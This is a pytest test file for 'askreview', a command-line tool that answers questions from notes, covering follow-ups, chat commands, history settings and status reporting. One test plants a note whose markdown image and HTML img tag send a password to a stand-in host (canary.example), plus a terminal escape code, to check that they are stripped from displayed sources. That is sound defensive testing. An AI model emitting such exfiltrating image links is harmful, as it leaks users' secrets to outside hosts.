"""A conversation as a user meets it: `askreview -c` and `askreview chat`, piped and typed."""

from __future__ import annotations

import json
import os
import re
import shutil

import pytest

import shell
from conftest import ROOT
from terminal import Terminal

pytestmark = pytest.mark.usefixtures("encoder")

HISTORY = ("askreview", "history")


@pytest.fixture(scope="module")
def index(encoder, tmp_path_factory):
    """The index of the sample notes, made once."""
    folder = tmp_path_factory.mktemp("chat") / "index"
    command = ["askreview", "index", "--notes", ROOT / "seeds", "--index", folder, "--quiet"]
    shell.run(command, check=True)
    return folder


@pytest.fixture
def data(tmp_path, monkeypatch):
    """A data folder of the test's own."""
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return tmp_path / "data"


@pytest.fixture
def run(data, index):
    def run(*args, stdin=None):
        command = ["askreview", *args, "--notes", ROOT / "seeds", "--index", index]
        done = shell.run(command, text=True, input=stdin)
        assert "Traceback" not in done.stderr
        return done

    return run


def kept(data) -> list[str]:
    return sorted(path.name for path in data.joinpath(*HISTORY).glob("*"))


# --- askreview -c ---


def test_a_follow_up_goes_on_with_the_last_question(run):
    run("why was DeepSeek v3 cheap?")
    done = run("-c", "how much did it cost?")
    assert done.returncode == 0
    assert "$6M" in done.stdout
    assert done.stderr == "(Searched for: how much did DeepSeek v3 cost?)\n"
    assert "Claude" in run("-c", "and Claude?").stdout


def test_a_question_that_stands_alone_is_asked_as_it_is(run):
    run("why was DeepSeek v3 cheap?")
    alone = run("How many definitions of agents did Willison gather?")
    run("why was DeepSeek v3 cheap?")
    done = run("-c", "How many definitions of agents did Willison gather?")
    assert (done.stdout, done.stderr) == (alone.stdout, "")


def test_json_says_what_was_searched(run):
    run("why was DeepSeek v3 cheap?")
    answer = json.loads(run("-c", "and Claude?", "--json").stdout)
    assert answer["question"] == "and Claude?"
    assert answer["searched"] == "why was Claude cheap?"
    assert "searched" not in json.loads(run("why was DeepSeek v3 cheap?", "--json").stdout)


def test_without_a_conversation_there_is_nothing_to_go_on_with(run, data):
    done = run("-c", "and Claude?")
    assert done.returncode == 2 and done.stdout == ""
    assert "There is no conversation to continue. Ask the full question." in done.stderr
    assert kept(data) == []


def test_a_damaged_conversation_is_one_line(run, data):
    run("why was DeepSeek v3 cheap?")
    (data.joinpath(*HISTORY) / "conversation.json").write_text("{")
    done = run("-c", "and Claude?")
    assert done.returncode == 2
    assert "conversation.json (damaged)" in done.stderr
    assert run("why was DeepSeek v3 cheap?").stderr == ""


def test_nothing_is_kept_on_request(run, data):
    run("why was DeepSeek v3 cheap?", "--no-history")
    run("chat", "--no-history", stdin="why was DeepSeek v3 cheap?\n")
    assert kept(data) == []
    run("why was DeepSeek v3 cheap?")
    done = run("-c", "and Claude?", "--no-history")
    assert done.returncode == 2 and "(--no-history)" in done.stderr


def test_a_setting_turns_history_off_for_good(run, data):
    assert shell.run(["askreview", "config", "history", "false"])
    run("why was DeepSeek v3 cheap?")
    run("chat", stdin="why was DeepSeek v3 cheap?\n")
    assert kept(data) == []
    assert "(history = false)" in run("-c", "and Claude?").stderr
    shell.run(["askreview", "config", "history", "true"], check=True)
    run("why was DeepSeek v3 cheap?")
    assert kept(data) == ["conversation.json"]
    off = shell.run(["askreview", "config", "history", "false"])
    assert str(data.joinpath(*HISTORY)).encode() in off.stderr
    done = shell.run(["askreview", "config", "history", "maybe"], text=True)
    assert done.returncode == 2 and "true or false" in done.stderr


def test_the_setting_is_a_switch_in_the_file(run, data, tmp_path):
    shell.run(["askreview", "config", "history", "false"], check=True)
    assert (tmp_path / "config" / "askreview" / "config.toml").read_text() == "history = false\n"


def test_one_conversation_is_not_continued_with_other_notes(run, data, vault, tmp_path):
    run("why was DeepSeek v3 cheap?")
    command = ["askreview", "-c", "and Claude?", "--notes", vault, "--index", tmp_path / "index"]
    done = shell.run(command, text=True)
    assert done.returncode == 2
    assert str(ROOT / "seeds") in done.stderr


# --- askreview chat, piped ---


def test_questions_of_a_pipe_are_answered_one_after_the_other(run):
    done = run("chat", stdin="why was DeepSeek v3 cheap?\nhow much did it cost?\n")
    assert done.returncode == 0
    assert done.stdout.count("[1] ") >= 2 and "$6M" in done.stdout
    assert "> " not in done.stdout and "\x1b" not in done.stdout + done.stderr
    assert done.stderr == "(Searched for: how much did DeepSeek v3 cost?)\n"


def test_sources_shows_the_exact_words_of_the_last_answer(run):
    done = run("chat", stdin="how many photos could Gemini 1.5 Flash 8B go through?\n/sources\n")
    raw = (ROOT / "seeds" / "year-in-review.md").read_text(encoding="utf-8")
    _, _, sources = done.stdout.partition("\n\n")  # what comes behind the answer
    shown = re.findall(r"^ {4}(.+)$", sources, re.M)
    assert shown and any("68,000 photos" in words for words in shown)
    assert all(
        words in raw or words in (ROOT / "seeds" / "clipping.md").read_text() for words in shown
    )


def test_sources_show_no_image_and_no_tag_of_a_note(data, vault, tmp_path):
    hostile = (
        "The password of the safe is 4711 ![x](http://canary.example/?q=4711)"
        " <img src='http://canary.example/2'>\x1b[31m.\n"
    )
    (vault / "safe.md").write_text(hostile)
    command = ["askreview", "chat", "--notes", vault, "--index", tmp_path / "index"]
    asked = "What is the password of the safe?\n/sources\n"
    done = shell.run(command, input=asked, text=True)
    assert "    The password of the safe is 4711" in done.stdout
    assert (
        "canary" not in done.stdout.partition("    The password")[2] and "\x1b" not in done.stdout
    )


def test_sources_before_any_answer(run):
    done = run("chat", stdin="/sources\n")
    assert done.stdout == "" and done.stderr == "There is no answer yet. Ask a question first.\n"


def test_new_forgets_what_was_said(run):
    done = run("chat", stdin="why was DeepSeek v3 cheap?\n/new\nand Claude?\n")
    assert "Searched for" not in done.stderr and "Started a new conversation." in done.stderr


def test_quit_ends_and_what_follows_is_not_asked(run):
    done = run("chat", stdin="/quit\nwhy was DeepSeek v3 cheap?\n")
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


def test_help_lists_every_command_and_unknown_ones_point_to_it(run):
    done = run("chat", stdin="/help\n/nosuch\n")
    assert all(command in done.stdout for command in ("/sources", "/model", "/new", "/quit"))
    assert done.stderr == "There is no command /nosuch. Type /help for the list.\n"


def test_an_error_ends_a_question_and_not_the_conversation(run):
    done = run("chat", stdin=f"{'word ' * 3000}\nwhy was DeepSeek v3 cheap?\n")
    assert "Error: The question is too long (" in done.stderr
    assert "DeepSeek" in done.stdout
    assert done.returncode == 1


def test_model_says_and_sets_who_answers(run):
    done = run("chat", stdin="/model\n/model quotes\nwhy was DeepSeek v3 cheap?\n")
    assert done.stderr == "Model: quotes.\n" * 2
    assert "[1] " in done.stdout


def test_empty_lines_and_bytes_that_are_no_text_do_no_harm(data, index):
    command = ["askreview", "chat", "--notes", ROOT / "seeds", "--index", index]
    done = shell.run(command, input=b"\n  \ncaf\xe9 slop?\n\x00\n")
    assert b"Traceback" not in done.stderr and b"Slop" in done.stdout


def test_a_chat_is_gone_on_with_later(run, data):
    run("chat", stdin="what is slop?\nwhy was DeepSeek v3 cheap?\n")
    assert (
        "Searched for: how much did DeepSeek v3 cost?" in run("-c", "how much did it cost?").stderr
    )
    assert "Searched for: why was Claude cheap?" in run("-c", "why was Claude cheap?").stderr + (
        run("chat", "-c", stdin="and why was it cheap?\n").stderr
    )


def test_a_refusal_in_a_chat_is_shown_with_what_is_nearest(run):
    done = run("chat", stdin="how do I bake sourdough?\n")
    assert "Not in your notes" in done.stdout and "Closest passages (weak matches):" in done.stdout
    assert done.returncode == 0


# --- askreview chat, typed ---


@pytest.fixture
def terminal(data, index):
    opened = []

    def start(*args):
        command = ["askreview", "chat", *args, "--notes", ROOT / "seeds", "--index", index]
        opened.append(Terminal(command, env={**os.environ, "TERM": "dumb"}))
        opened[-1].until("> ")
        return opened[-1]

    yield start
    for one in opened:
        if one.process.poll() is None:
            one.process.kill()
            one.process.wait()


def test_typed_questions_are_answered_and_ctrl_d_ends(terminal, data):
    chat = terminal()
    assert "Type /help for commands." in chat.seen
    chat.type("why was DeepSeek v3 cheap?\n")
    assert "year-in-review.md" in chat.until("\n> ")
    chat.type("how much did it cost?\n")
    assert "Searched for: how much did DeepSeek v3 cost?" in chat.until("\n> ")
    chat.type("\x04")
    assert chat.end() == 0
    assert "Traceback" not in chat.seen
    assert kept(data) == ["conversation.json", "lines.json"]


def test_an_earlier_line_comes_back_with_the_arrow_also_in_the_next_chat(terminal):
    chat = terminal()
    chat.type("what is slop?\n")
    chat.until("\n> ")
    chat.type("/quit\n")
    assert chat.end() == 0
    again = terminal()
    again.type("\x1b[A\x1b[A")  # up: /quit, up: the question
    again.until("what is slop?")
    again.type("\n")
    assert "AI-generated content" in again.until("\n> ")
    again.type("\x04")
    assert again.end() == 0


def test_ctrl_c_empties_the_line_and_the_chat_goes_on(terminal):
    chat = terminal()
    chat.type("how do I bak")
    chat.until("bak")
    chat.interrupt()
    chat.until("> ")
    chat.type("what is slop?\n")
    assert "AI-generated content" in chat.until("\n> ")
    chat.type("/quit\n")
    assert chat.end() == 0 and "Traceback" not in chat.seen


def test_ctrl_c_during_an_answer_returns_to_the_prompt(data, tmp_path, monkeypatch):
    """The first question indexes many notes, which takes long enough to be stopped."""
    notes = tmp_path / "notes"
    shutil.copytree(ROOT / "seeds", notes)
    for n in range(400):
        (notes / f"{n}.md").write_text(
            f"The tide was {n} feet high in the harbour on day {n}.\n" * 9
        )
    command = ["askreview", "chat", "--notes", notes, "--index", tmp_path / "index"]
    chat = Terminal(command, env={**os.environ, "TERM": "xterm"})
    try:
        chat.until("> ")
        chat.type("what is slop?\n")
        chat.until("Encoding")
        chat.type("\x03")
        chat.until("Stopped.\r\n> ")
        chat.type("/quit\n")
        assert chat.end() == 0 and "Traceback" not in chat.seen
    finally:
        if chat.process.poll() is None:
            chat.process.kill()
            chat.process.wait()


def test_tab_completes_commands(terminal):
    chat = terminal()
    chat.type("/sou\t")
    chat.until("/sources")
    chat.type("\n")
    assert "There is no answer yet" in chat.until("\n> ")  # Ctrl-D ends where there is a prompt
    chat.type("\x04")
    assert chat.end() == 0


# --- what is kept, and where ---


def test_status_lists_every_place_that_holds_text(run, data, index, tmp_path, monkeypatch):
    folder = tmp_path / "llm"
    folder.mkdir()
    monkeypatch.setenv("LLM_USER_PATH", str(folder))
    (folder / "logs.db").write_bytes(b"x" * 12_345)
    run("chat", stdin="why was DeepSeek v3 cheap?\n")
    state = json.loads(run("status", "--json").stdout)
    places = {one["what"]: one for one in state["places"]}
    assert list(places) == ["index", "last conversation", "llm's log (on)"]
    assert places["index"]["bytes"] == state["bytes"] > 0
    conversation = data.joinpath(*HISTORY) / "conversation.json"
    assert places["last conversation"]["path"] == str(conversation)
    assert places["last conversation"]["bytes"] == conversation.stat().st_size
    text = run("status").stdout
    assert "12.3 KB  " in text and f"{places['index']['bytes'] / 1e3:.1f} KB  " in text
    (folder / "logs-off").touch()
    assert "llm's log (off)" in run("status").stdout


def test_status_makes_no_folder_of_llms(run, tmp_path, monkeypatch):
    monkeypatch.setenv("LLM_USER_PATH", str(tmp_path / "llm"))
    assert [one["what"] for one in json.loads(run("status", "--json").stdout)["places"]] == [
        "index"
    ]
    assert not (tmp_path / "llm").exists()


def test_a_chat_writes_nothing_outside_index_cache_and_data(run, data, home, tmp_path):
    run("chat", stdin="why was DeepSeek v3 cheap?\nand Claude?\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]
    assert [p.relative_to(data).as_posix() for p in data.rglob("*") if p.is_file()] == [
        "askreview/history/conversation.json"
    ]
